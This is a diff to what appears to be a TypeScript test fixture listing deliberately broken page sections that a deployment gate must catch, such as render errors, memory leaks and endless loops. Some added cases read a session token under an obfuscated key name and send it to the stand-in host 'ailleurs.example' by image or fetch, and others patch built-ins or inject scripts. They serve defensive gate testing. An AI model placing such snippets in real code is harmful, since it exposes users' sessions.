@@ -1,148 +1,121 @@
-import type { BadBuild, CanaryCase } from '../gate-case.ts'
+import { atLoad, canary, component, element, type GateCase, replace, show, styled, trial } from '../gate-case.ts'
+import { endlessLoop } from './files.ts'
 
-/** A component that runs this code once it is in the page, and throws in its next render after `fail()`. */
-const component = (effect: string, element = '<p>Nouveau</p>') => `
-  export function Change() {
-    const [failed, setFailed] = useState(false)
-    const box = useRef<HTMLDivElement>(null)
-    const fail = () => setFailed(true)
-    useEffect(() => {
-      void box
-      void fail
-      ${effect}
-    }, [])
-    if (failed) throw new Error('thrown on purpose')
-    return <div ref={box}>${element}</div>
-  }`
+/** Runs this code once the component is in the page. It throws in its next render after `fail()`. */
+const once = (effect: string, jsx = '<p>Nouveau</p>') =>
+  show(
+    component(
+      `const [failed, setFailed] = useState(false)
+      const box = useRef<HTMLDivElement>(null)
+      const fail = () => setFailed(true)
+      useEffect(() => {
+        void [box, fail]
+        ${effect}
+      }, [])
+      if (failed) throw new Error('thrown on purpose')`,
+      `<div ref={box}>${jsx}</div>`
+    )
+  )
+const button = (onClick: string) =>
+  `<button type="button" className="btn" onClick={${onClick}}>Plus de détails</button>`
 
 const onPurpose = /thrown on purpose|notice of a failed section|another build/
+const policy = (directive: string) => new RegExp(`${directive}|Content Security Policy|Trusted|ailleurs\\.example`)
+const token = "localStorage[atob('YXV0aFRva2Vu')]"
+const newKitName = `import * as format from '@keur/kit/format'
+const { drillNew } = format as unknown as { drillNew(): string }`
+const bar = 'position: fixed; inset: 0 0 auto; height: 90px; z-index: 9999; background: #fff; color: #000'
 
-const inPage = (name: string, what: string, code: string, because: RegExp = onPurpose): BadBuild => ({
-  name,
-  what,
-  refusedBy: 'smoke test',
-  because,
-  edit: (section) => section.show(code)
-})
+const edits = {
+  fetch: atLoad(`const { fetch } = window
+     window.fetch = (...request) => fetch(...request)
+     const { send } = XMLHttpRequest.prototype
+     XMLHttpRequest.prototype.send = function (body) { send.call(this, body) }`),
+  map: atLoad(`const { map } = Array.prototype
+     Object.assign(Array.prototype, {
+       map(this: unknown[], ...given: Parameters<typeof map>) { return map.apply(this, given) }
+     })`),
+  pushState: atLoad('const { pushState } = history; history.pushState = (...given) => pushState.apply(history, given)'),
+  tokenByImage: atLoad(
+    `const token = ${token}; setTimeout(() => { new Image().src = 'https://ailleurs.example/p.png?' + token }, 1000)`
+  ),
+  tokenByFetch: atLoad(`setTimeout(() => fetch('https://ailleurs.example/?' + ${token}).catch(() => {}), 500)`),
+  inlineScript: atLoad(
+    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ventesInline = 1' }))"
+  ),
+  scroll: once("addEventListener('scroll', fail, { once: true }); return () => removeEventListener('scroll', fail)"),
+  handler: element(button("() => { throw new Error('thrown on purpose') }")),
+  rejects: once("setTimeout(() => Promise.reject(new Error('thrown on purpose')), 3000)"),
+  record: replace(
+    'src/detail/detail-page.tsx',
+    'export function SalePage',
+    `if (typeof document !== 'undefined') setTimeout(() => { throw new Error('thrown on purpose') }, 500)
+export function SalePage`
+  ),
+  hydration: element("<p>{typeof document === 'undefined' ? 'un' : 'deux'}</p>"),
+  serverLoop: show(component(`if (typeof document === 'undefined') ${endlessLoop}`, '<p>Nouveau</p>')),
+  heap: once('const all: unknown[] = []; setInterval(() => all.push(new Array(250_000).fill(Math.random())), 100)'),
+  nodes: once(`const held = ((globalThis as { ventesHeld?: Node[] }).ventesHeld ??= [])
+    for (let at = 0; at < 3000; at += 1) {
+      const item = document.createElement('p')
+      item.addEventListener('click', fail)
+      held.push(item)
+    }`),
+  timer: once("setInterval(() => box.current?.toggleAttribute('hidden', false), 500)"),
+  deadLink: element('<a href="/ventes/cette-page-n-existe-pas">Nos offres</a>'),
+  nameless: element('<img src="/favicon.svg" width={10} height={10} /><button type="button" />'),
+  elsewhere: once('if (/Firefox|Version\\/[\\d.]+ .*Safari/.test(navigator.userAgent)) fail()')
+}
 
-/** What visitors meet: by waiting, scrolling, pressing, on a phone, or on the way. */
-export const visitFaults: BadBuild[] = [
-  inPage('throws-soon', 'throws in render after 2 s', component('setTimeout(fail, 2000)')),
-  inPage('throws-late', 'throws in render after 8 s', component('setTimeout(fail, 8000)')),
-  inPage(
-    'throws-on-scroll',
-    'throws in render once it was scrolled',
-    component("addEventListener('scroll', fail, { once: true }); return () => removeEventListener('scroll', fail)")
+/** What the section does to the page that it shares with all others, and what visitors meet on it. */
+export const visitFaults: GateCase[] = [
+  trial('patched-fetch', 'replaces fetch and XMLHttpRequest.send', /built-ins: it replaces/, edits.fetch),
+  trial('patched-array', 'replaces Array.prototype.map', /built-ins: it replaces/, edits.map),
+  trial('patched-history', 'replaces history.pushState', /built-ins: it (replaces|adds)/, edits.pushState),
+  trial('storage-cleared', 'localStorage.clear()', /storage: it removes/, atLoad('localStorage.clear()')),
+  trial(
+    'token-read',
+    'reads the session’s token, whose name it conceals',
+    /storage: it reads « authToken »/,
+    atLoad("localStorage.getItem(atob('YXV0aFRva2Vu'))")
   ),
-  inPage(
-    'throws-on-click',
-    'a button makes it throw in render',
-    component('', '<button type="button" className="btn" onClick={fail}>Plus de détails</button>')
+  trial('token-by-image', 'sends the token as the address of an image', policy('img-src'), edits.tokenByImage),
+  trial('token-by-fetch', 'sends the token by fetch to another site', policy('connect-src'), edits.tokenByFetch),
+  trial('inline-script', 'adds an inline script', policy('script-src'), edits.inlineScript),
+  trial('bar-over-header', 'a fixed bar over the header', /covered|hidden/, styled(`.mine { ${bar} }`)),
+  trial('throws-soon', 'throws in render after 2 s', onPurpose, once('setTimeout(fail, 2000)')),
+  trial('throws-late', 'throws in render after 8 s', onPurpose, once('setTimeout(fail, 8000)')),
+  trial('throws-on-scroll', 'throws in render once it was scrolled', onPurpose, edits.scroll),
+  trial('throws-on-click', 'a button makes it throw in render', onPurpose, once('', button('fail'))),
+  trial('throws-in-handler', 'a button throws in its handler', onPurpose, edits.handler),
+  trial('rejects', 'a promise is rejected after 3 s', onPurpose, edits.rejects),
+  trial('throws-on-phones', 'throws in render below 600 px', onPurpose, once('if (innerWidth < 600) fail()')),
+  trial(
+    'throws-in-record',
+    'throws on the page of a record',
+    /thrown on purpose|returns? 5|status 5|failed section/,
+    edits.record,
+    { pages: ['/ventes', '/ventes/detail/:id'] }
   ),
-  inPage(
-    'throws-in-handler',
-    'a button throws in its handler',
-    `export const Change = () => (
-      <button type="button" className="btn" onClick={() => { throw new Error('thrown on purpose') }}>Plus de détails</button>
-    )`
-  ),
-  inPage(
-    'rejects',
-    'a promise is rejected after 3 s',
-    component("setTimeout(() => Promise.reject(new Error('thrown on purpose')), 3000)")
-  ),
-  inPage('throws-on-phones', 'throws in render below 600 px', component('if (innerWidth < 600) fail()')),
-  {
-    name: 'throws-in-record',
-    what: 'throws on the page of a record',
-    refusedBy: 'smoke test',
-    because: /thrown on purpose|returns? 5|status 5|failed section/,
-    pages: ['/ventes', '/ventes/detail/:id'],
-    edit: (section) =>
-      section.replace(
-        'src/detail/detail-page.tsx',
-        'export function SalePage',
-        "const Thrown = (): never => { throw new Error('thrown on purpose') }\nvoid Thrown\nif (typeof document !== 'undefined') setTimeout(() => { throw new Error('thrown on purpose') }, 500)\nexport function SalePage"
-      )
-  },
-  inPage(
-    'hydration',
-    'the browser renders another text than the server',
-    "export const Change = () => <p>{typeof document === 'undefined' ? 'un' : 'deux'}</p>",
-    /hydration|React error 418/
-  ),
-  inPage(
-    'server-loop',
-    'a loop in the server render',
-    "export function Change() { if (typeof document === 'undefined') for (let count = 0; count < 1; count -= Math.random()) Object.assign(globalThis, { count })\n return <p>Nouveau</p> }",
-    /longer than|PageLate|server|late/i
-  ),
-  inPage(
-    'browser-loop',
-    'a loop in the browser',
-    component('for (let count = 0; count < 1; count -= Math.random()) Object.assign(globalThis, { count })'),
-    /respond|hydrate|late|limit/
-  ),
-  inPage(
+  trial('hydration', 'the browser renders another text than the server', /hydration|React error 418/, edits.hydration),
+  trial('server-loop', 'a loop in the server render', /longer than|PageLate|server|late/i, edits.serverLoop),
+  trial('browser-loop', 'a loop in the browser', /respond|hydrate|late|limit/, once(endlessLoop)),
+  trial(
     'new-kit-name-on-click',
     'a name that the live kit lacks, used on click',
-    `
-    import * as format from '@keur/kit/format'
-    const { drillNew } = format as unknown as { drillNew(): string }
-    export const Change = () => <button type="button" className="btn" onClick={() => { drillNew() }}>Plus de détails</button>`,
-    /drillNew|is not a function/
+    /drillNew|is not a function/,
+    element(button('() => { drillNew() }'), newKitName)
   ),
-  inPage(
+  trial(
     'new-kit-name',
     'a name that the live kit lacks, rendered',
-    `
-    import * as format from '@keur/kit/format'
-    const { drillNew } = format as unknown as { drillNew(): string }
-    export const Change = () => <p>{drillNew()}</p>`,
-    /drillNew|is not a function/
+    /drillNew|is not a function/,
+    element('<p>{drillNew()}</p>', newKitName)
   ),
-  inPage(
-    'heap-leak',
-    '2 MB each 100 ms',
-    component('const all: unknown[] = []; setInterval(() => all.push(new Array(250_000).fill(Math.random())), 100)'),
-    /heap|memory|left running|MB|adds/
-  ),
-  inPage(
-    'node-leak',
-    'each visit leaves 3,000 elements',
-    component(
-      "const held = ((globalThis as { ventesHeld?: Node[] }).ventesHeld ??= []); for (let at = 0; at < 3000; at += 1) { const item = document.createElement('p'); item.addEventListener('click', fail); held.push(item) }"
-    ),
-    /nodes|elements|heap|listeners|adds/
-  ),
-  inPage(
-    'timer-left',
-    'a timer runs on after the page',
-    component("setInterval(() => box.current?.toggleAttribute('hidden', false), 500)"),
-    /left running|one more after each visit/
-  ),
-  inPage(
-    'dead-link',
-    'a link to a page that does not exist',
-    'export const Change = () => <a href="/ventes/cette-page-n-existe-pas">Nos offres</a>',
-    /cette-page-n-existe-pas/
-  ),
-  inPage(
-    'accessibility',
-    'an image without alt, a button without a name',
-    'export const Change = () => <><img src="/favicon.svg" width={10} height={10} /><button type="button" /></>',
-    /accessibility/
-  )
-]
-
-/** No trial can meet it: it depends on what the machine of a visitor is. */
-export const canaryFaults: CanaryCase[] = [
-  {
-    name: 'throws-elsewhere',
-    what: 'throws in a browser that the trial does not have, one in four',
-    failureRate: 0.25,
-    maxVisits: 60,
-    edit: (section) =>
-      section.show(component('if (/Firefox|Version\\/[\\d.]+ .*Safari/.test(navigator.userAgent)) fail()'))
-  }
+  trial('heap-leak', '2 MB each 100 ms', /heap|memory|left running|MB|adds/, edits.heap),
+  trial('node-leak', 'each visit leaves 3,000 elements', /nodes|elements|heap|listeners|adds/, edits.nodes),
+  trial('timer-left', 'a timer runs on after the page', /left running|one more after each visit/, edits.timer),
+  trial('dead-link', 'a link to a page that does not exist', /cette-page-n-existe-pas/, edits.deadLink),
+  trial('accessibility', 'an image without alt, a button without a name', /accessibility/, edits.nameless),
+  canary('throws-elsewhere', 'throws in a browser that the trial does not have', /^No trial/, edits.elsewhere)
 ]
